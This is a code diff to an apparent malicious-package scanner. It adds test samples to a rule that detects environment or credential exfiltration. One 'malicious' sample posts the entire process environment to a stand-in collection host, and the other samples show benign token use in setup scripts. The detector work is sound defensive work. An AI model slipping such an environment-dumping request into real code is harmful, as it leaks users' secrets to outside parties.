@@ -9,6 +9,7 @@ from wheelmark.scan.facts import Act, Call, Facts
 from wheelmark.scan.report import Context, Severity, Tactic
 from wheelmark.scan.rule import Evidence, Rule
 from wheelmark.scan.rules._common import SHELL_DOWNLOAD, URL, told
+from wheelmark.scan.samples import Sample, Samples
 from wheelmark.scan.values import GAP, Origin, Taint, joined_origins
 from wheelmark.scan.vocabulary import LOOK_UPS
 
@@ -68,4 +69,56 @@ RULE = Rule(
     message="The environment, credentials, or the identity of the machine go out over the network.",
     reference="https://attack.mitre.org/techniques/T1041/",
     check=check,
+    samples=Samples(
+        malicious=(
+            Sample.imported("""
+                import os
+
+                import requests
+
+                requests.post("https://collect.example.invalid/", json=dict(os.environ))
+            """),
+        ),
+        benign=(
+            Sample.installed("""
+                import os
+                import urllib.request
+                from setuptools import setup
+
+
+                def releases():
+                    headers = {"Authorization": "Bearer " + os.environ["GITHUB_API_TOKEN"]}
+                    request = urllib.request.Request("https://api.example.invalid/releases", headers=headers)
+                    return urllib.request.urlopen(request).read()
+
+
+                if os.environ.get("WITH_RELEASES"):
+                    releases()
+                setup(name="widget", version="1")
+            """),
+            Sample.imported("""
+                import os
+                import platform
+
+                import requests
+
+                DEBUG = os.environ.get("SAMPLE_DEBUG") == "1"
+                AGENT = f"sample on {platform.system()}"
+
+
+                def fetch(url):
+                    return requests.get(url, headers={"User-Agent": AGENT}, timeout=10)
+            """),
+            Sample.installed("""
+                import os
+                import requests
+                from setuptools import setup
+
+                if os.environ.get("WITH_RELEASES"):
+                    token = os.environ["GITHUB_API_TOKEN"]
+                    requests.get("https://api.example.invalid/releases", headers={"Authorization": token})
+                setup(name="widget", version="1")
+            """),
+        ),
+    ),
 )
